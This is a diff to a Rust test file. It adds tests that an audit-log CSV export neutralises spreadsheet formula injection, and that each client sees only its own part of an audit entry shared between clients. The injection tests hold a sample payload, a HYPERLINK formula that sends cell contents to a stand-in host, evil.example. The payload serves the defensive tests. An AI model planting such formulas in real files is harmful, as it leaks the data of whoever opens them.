@@ -3,7 +3,7 @@
 mod common;
 use common::*;
 use partner_access_studio::domain::audit::{
-    to_csv, write_csv_record, ActorFilter, AuditFilter, AuditIndex, Category,
+    part, to_csv, write_csv_record, ActorFilter, AuditFilter, AuditIndex, Category,
 };
 use partner_access_studio::domain::*;
 use proptest::prelude::*;
@@ -102,7 +102,12 @@ fn filters_narrow_by_affected_user_actor_category_search_and_date() {
 fn the_csv_export_has_a_header_and_a_row_per_entry() {
     let s = history();
     let index = AuditIndex::new(&s, FJORD, Lang::En);
-    let csv = to_csv(&s, &index.matching(&AuditFilter::default()), Lang::En);
+    let csv = to_csv(
+        &s,
+        FJORD,
+        &index.matching(&AuditFilter::default()),
+        Lang::En,
+    );
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     assert_eq!(
         reader.headers().unwrap().iter().collect::<Vec<_>>(),
@@ -124,7 +129,8 @@ fn the_csv_export_has_a_header_and_a_row_per_entry() {
 
 proptest! {
     /// Whatever a name or a summary holds (commas, quotes, line breaks,
-    /// spaces at the ends), a CSV reader gets the same fields back.
+    /// spaces at the ends), a CSV reader gets the same fields back; one a
+    /// spreadsheet would run as a formula comes back behind a `'` (R-SEC-1).
     #[test]
     fn a_csv_record_reads_back_as_written(
         fields in prop::collection::vec("[a-zA-Z ,;\"\n\r\té<=]{0,12}", 2..7),
@@ -141,8 +147,155 @@ proptest! {
             .records()
             .map(|r| r.unwrap().iter().map(str::to_string).collect())
             .collect();
-        prop_assert_eq!(read, vec![fields; rows]);
+        let expected: Vec<String> = fields
+            .iter()
+            .map(|f| {
+                if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    format!("'{f}")
+                } else {
+                    f.clone()
+                }
+            })
+            .collect();
+        prop_assert_eq!(read, vec![expected; rows]);
     }
+}
+
+#[test]
+fn r_sec_1_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote() {
+    // R-SEC-1: each of OWASP's formula starts, and the harmless look-alikes.
+    let fields = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+        "+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "a=b",
+        "2026-11-23",
+    ]
+    .map(String::from);
+    let mut csv = String::new();
+    write_csv_record(&mut csv, &fields);
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(
+        row.iter().collect::<Vec<_>>(),
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "'+1",
+            "'-2+3",
+            "'@SUM(A1)",
+            "'\tx",
+            "'\rx",
+            "a=b",
+            "2026-11-23",
+        ]
+    );
+}
+
+#[test]
+fn r_sec_1_a_user_named_as_a_formula_is_text_in_the_audit_export() {
+    // R-SEC-1: the attack of the issue: a client user whose name is a
+    // formula acts, and the client's admin exports the log.
+    let mut s = world();
+    let henrik = as_user(&s, FJORD, HENRIK);
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    s.account_mut(FJORD)
+        .unwrap()
+        .user_mut(henrik.user)
+        .unwrap()
+        .name = name.into();
+    let pia = uid(&s, FJORD, PIA);
+    deactivate(&mut s, &henrik, pia);
+    let index = AuditIndex::new(&s, FJORD, Lang::En);
+    let csv = to_csv(
+        &s,
+        FJORD,
+        &index.matching(&AuditFilter::default()),
+        Lang::En,
+    );
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert!(row[1].starts_with("'="), "who: {}", &row[1]);
+    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
+}
+
+/// BrightPath opted in to dormant deactivation; Sofie is dormant in Fjord
+/// and in Lindqvist, so one automatic entry deactivates her in both.
+fn one_sweep_over_two_clients() -> State {
+    let mut s = world();
+    let lars = as_user(&s, BRIGHTPATH, LARS);
+    accepted(
+        &mut s,
+        &lars,
+        Command::SetPartnerSettings {
+            partner: BRIGHTPATH,
+            link_valid_days: 30,
+            deactivate_dormant: true,
+        },
+    );
+    let later = now().plus_days(DORMANT_DAYS + 30);
+    for step in tick_steps(&s, later) {
+        commit(&mut s, None, &step, later);
+    }
+    assert_eq!(user(&s, FJORD, SOFIE).status, UserStatus::Deactivated);
+    assert_eq!(user(&s, LINDQVIST, SOFIE).status, UserStatus::Deactivated);
+    s
+}
+
+#[test]
+fn r_aud_1_a_client_sees_only_its_part_of_an_entry_that_touched_several() {
+    // R-AUD-1
+    let s = one_sweep_over_two_clients();
+    let sweep = s
+        .audit
+        .iter()
+        .position(|e| {
+            let accounts: std::collections::BTreeSet<_> =
+                e.events.iter().filter_map(|ev| ev.account()).collect();
+            accounts.contains(&FJORD) && accounts.contains(&LINDQVIST)
+        })
+        .expect("one entry touched both clients");
+    let entry = &s.audit[sweep];
+    // The part: Fjord's events only, and none of Lindqvist's.
+    assert!(part(entry, FJORD).all(|e| e.account() == Some(FJORD)));
+    assert!(part(entry, FJORD).count() > 0);
+    assert!(part(entry, LINDQVIST).all(|e| e.account() == Some(LINDQVIST)));
+
+    // Search and the affected-user filter: Lindqvist's own users are not
+    // found in Fjord's log through the shared entry, nor Fjord's in theirs.
+    let fjord = AuditIndex::new(&s, FJORD, Lang::En);
+    let lindqvist = AuditIndex::new(&s, LINDQVIST, Lang::En);
+    assert!(fjord.matching(&AuditFilter::default()).contains(&sweep));
+    let erik_in_lindqvist = lindqvist.matching(&AuditFilter {
+        affected: "erik.lund".into(),
+        ..AuditFilter::default()
+    });
+    assert!(
+        !erik_in_lindqvist.contains(&sweep),
+        "Fjord's Erik is in Lindqvist's log"
+    );
+    let erik_in_fjord = fjord.matching(&AuditFilter {
+        search: "erik.lund".into(),
+        ..AuditFilter::default()
+    });
+    assert!(erik_in_fjord.contains(&sweep), "Fjord finds its own user");
+    let ingrid_in_fjord = fjord.matching(&AuditFilter {
+        search: "ingrid.berg".into(),
+        ..AuditFilter::default()
+    });
+    assert!(
+        !ingrid_in_fjord.contains(&sweep),
+        "Lindqvist's Ingrid is in Fjord's log"
+    );
+
+    // The CSV's affected column: Fjord's users only.
+    let csv = to_csv(&s, FJORD, &[sweep], Lang::En);
+    assert!(csv.contains(ERIK), "{csv}");
+    assert!(!csv.contains(INGRID), "{csv}");
 }
 
 #[test]
